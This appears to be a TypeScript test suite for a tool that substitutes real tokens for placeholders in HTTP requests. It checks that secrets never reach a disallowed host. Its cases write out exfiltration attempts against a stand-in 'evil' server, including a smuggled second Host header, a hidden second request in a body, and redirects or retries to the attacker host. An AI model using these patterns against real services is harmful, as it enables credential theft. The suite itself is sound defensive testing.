/**
 * What a request file, or data beside it, can make an honest sender do. Each attack is the request that the sender
 * makes of it: what counts are the bytes on the socket. To a server that is not allowed goes a placeholder, or nothing.
 */
import { strict as assert } from 'node:assert';
import http from 'node:http';
import { gzipSync } from 'node:zlib';
import { response } from '../../support/rawServer';
import { codeOf, realToken, type SendOptions, send, sendChunks, useWire } from '../../support/wireFixture';

describe('Attacks on the wire by what a file says', () => {
  const scene = useWire();
  const allowedHost = (): string => `127.0.0.1:${scene.allowed.port}`;

  const requests: readonly (readonly [
    title: string,
    path: string,
    options: (token: string) => SendOptions,
  ])[] = [
    [
      'a file variable named like a reference, in a header',
      '/',
      (token) => ({ headers: { authorization: `Bearer ${token}` } }),
    ],
    [
      'a variable defined in a script block, in a JSON body',
      '/',
      (token) => posted('application/json', JSON.stringify({ token })),
    ],
    ['a host from another .env file than the one that was read, in the query', '/?t=TOKEN', () => ({})],
    [
      'an indented separator, which makes the next request part of a body',
      '/',
      (token) => ({ method: 'POST', body: `a\n ###\nGET https://api.allowed.test/\nX-Token: ${token}\n` }),
    ],
    [
      'a request named in other letters, in a form',
      '/',
      (token) => posted('application/x-www-form-urlencoded', `token=${token}`),
    ],
    ['a variable whose name is a regular expression, in the path', '/TOKEN/a', () => ({})],
    [
      'default headers with an allowed host, sent to another',
      '/',
      (token) => ({ headers: { host: allowedHost(), 'x-token': token } }),
    ],
    [
      'a line break in a value, as a second Host header',
      '/',
      (token) => ({ headers: ['Host', allowedHost(), 'Host', 'evil.test', 'X-Token', token] }),
    ],
    [
      'a proxy for plain HTTP',
      '/',
      (token) => ({
        path: `http://${allowedHost()}/`,
        headers: { host: allowedHost(), 'x-token': token },
      }),
    ],
    [
      'a value of the environment in a data file, in a multipart body',
      '/',
      (token) =>
        posted(
          'multipart/form-data; boundary=b',
          `--b\r\nContent-Disposition: form-data; name="t"\r\n\r\n${token}\r\n--b--\r\n`,
        ),
    ],
  ];
  for (const [title, path, options] of requests) {
    it(`send nothing to a host that is not allowed: ${title}`, async () => {
      const { evil, fixture } = scene;
      const url = evil.url + path.replace('TOKEN', fixture.token);
      assert.equal(codeOf(await send(url, options(fixture.token))), 'host-not-allowed');
      assert.equal(evil.bytes(), '');
    });
  }

  it('send nothing to a host that is not allowed: a body that becomes a file only after replacement, as a stream', async () => {
    const pieces = [`line\n${scene.fixture.token}`, '\nline'];
    assert.equal(await sendChunks(scene.evil.url, {}, pieces), 'host-not-allowed');
    assert.equal(scene.evil.bytes(), '');
  });

  it('copy a placeholder, not the token, from an earlier request that was allowed', async () => {
    const { allowed, evil, fixture } = scene;
    const request = http.get(allowed.url, { headers: { authorization: `Bearer ${fixture.token}` } });
    await new Promise((resolve) => request.on('response', (answer) => answer.resume().on('end', resolve)));
    assert.ok(allowed.bytes().includes(realToken));
    const headers = { 'x-copied': String(request.getHeader('authorization')) };
    assert.equal(codeOf(await send(evil.url, { headers })), 'host-not-allowed');
    assert.equal(evil.bytes(), '');
  });

  const seconds: readonly (readonly [
    title: string,
    status: string,
    options: (token: string) => SendOptions,
  ])[] = [
    ['a redirect that carries the body along', '307 Moved', (token) => ({ method: 'POST', body: token })],
    ['a retry at a second origin', '401 Unauthorized', (token) => ({ headers: { 'x-token': token } })],
  ];
  for (const [title, status, options] of seconds) {
    it(`send the token to the first host only: ${title}`, async () => {
      const { allowed, evil, fixture } = scene;
      allowed.answer = response(status, [`location: ${evil.url}`]);
      assert.equal(codeOf(await send(allowed.url, options(fixture.token))), `status ${status.slice(0, 3)}`);
      assert.ok(allowed.bytes().includes(realToken));
      assert.equal(codeOf(await send(evil.url, options(fixture.token))), 'host-not-allowed');
      assert.equal(evil.bytes(), '');
    });
  }
});

describe('Attacks on the wire by how a placeholder is written', () => {
  const scene = useWire();

  const disguises: readonly (readonly [title: string, body: (token: string) => string | Buffer])[] = [
    ['in Base64', (token) => Buffer.from(token).toString('base64')],
    ['in UTF-16', (token) => Buffer.from(token, 'utf16le')],
    ['in capital letters', (token) => token.toUpperCase()],
    ['compressed', (token) => gzipSync(token)],
    ['in reverse', (token) => [...token].reverse().join('')],
    ['as a word of this documentation', () => 'Search for kunciPlaceholder, or for kunciPlaceholders.'],
  ];
  for (const [title, body] of disguises) {
    it(`leave what is no placeholder as it is: ${title}`, async () => {
      const sent = body(scene.fixture.token);
      assert.equal(codeOf(await send(scene.evil.url, { method: 'POST', body: sent })), 'status 200');
      assert.ok(scene.evil.bytes().endsWith(`\r\n\r\n${Buffer.from(sent).toString('latin1')}`));
      assert.ok(!scene.evil.bytes().includes(realToken));
    });
  }

  const spoilt: readonly (readonly [title: string, headers: (token: string) => object, code: string])[] = [
    ['without its last digit', (token) => ({ 'x-token': token.slice(0, -1) }), 'unknown-client'],
    ['cut off in the middle', (token) => ({ 'x-token': token.slice(0, 20) }), 'unknown-client'],
    ['as the name of a header, where no value can go', (token) => ({ [token]: 'a' }), 'not-sent'],
  ];
  for (const [title, headers, code] of spoilt) {
    it(`end the request at an allowed host too: ${title}`, async () => {
      const { allowed, fixture } = scene;
      assert.equal(codeOf(await send(allowed.url, { headers: { ...headers(fixture.token) } })), code);
      assert.equal(allowed.bytes(), '');
    });
  }

  it('do not hide one: it is replaced each time, side by side, twice in a line and in two pieces', async () => {
    const { allowed, fixture } = scene;
    const { token } = fixture;
    const pieces = [`<${token.slice(0, 9)}`, `${token.slice(9)}>${token}0`];
    await sendChunks(allowed.url, { 'x-token': `${token}${token}` }, pieces);
    assert.equal(allowed.received[0]?.headers['x-token'], `${realToken}${realToken}`);
    assert.equal(allowed.received[0]?.body, `<${realToken}>${realToken}0`);
  });

  it('do not matter to a value that looks like a replacement pattern: it is placed literally', async () => {
    const { allowed, fixture } = scene;
    fixture.tokenOf = async () => "$&$1$`$'$$";
    await fixture.sendToken(allowed.url, { method: 'POST', body: fixture.token });
    assert.equal(allowed.received[0]?.headers['x-token'], "$&$1$`$'$$");
    assert.equal(allowed.received[0]?.body, "$&$1$`$'$$");
  });

  it('leave a header beside it that ends with a byte which a script counts as a space', async () => {
    const headers = { 'x-name': 'Voil\u00e0' };
    await scene.fixture.sendToken(scene.allowed.url, { method: 'POST', headers, body: 'é' });
    assert.equal(scene.allowed.received[0]?.headers['x-name'], 'Voil\u00c3\u00a0');
  });
});

function posted(type: string, body: string): SendOptions {
  return { method: 'POST', headers: { 'content-type': type }, body };
}
